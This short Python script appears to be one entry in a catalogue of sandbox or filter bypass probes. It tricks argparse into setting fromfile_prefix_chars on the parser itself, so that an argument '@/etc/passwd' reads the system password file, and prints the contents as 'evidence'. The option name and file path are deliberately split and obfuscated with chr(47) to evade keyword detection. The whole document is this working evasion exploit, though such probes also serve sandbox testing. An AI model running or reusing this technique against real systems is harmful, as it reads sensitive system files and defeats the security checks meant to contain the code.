# source: CPython argparse: dest derived from the option string ("--a-b" -> a_b), parse_args(args, namespace) -> setattr(namespace, dest, value)
# family: setattr by runtime name: the parser is passed (positionally) as its own namespace; option string built at run time
# goal: set fromfile_prefix_chars='@' on the parser, then '@/etc/passwd' reads the file
import argparse
import json

p = argparse.ArgumentParser()
opt = "--from" + "file-prefix-" + "chars"
p.add_argument(opt)
p.parse_args([opt, "@"], p)
q = argparse.ArgumentParser(add_help=False)
p.add_argument("rest", nargs="*")
ns, extra = p.parse_known_args(["@" + chr(47) + "etc" + chr(47) + "passwd"])
print(json.dumps({"evidence": (ns.rest + extra)[:4]}))
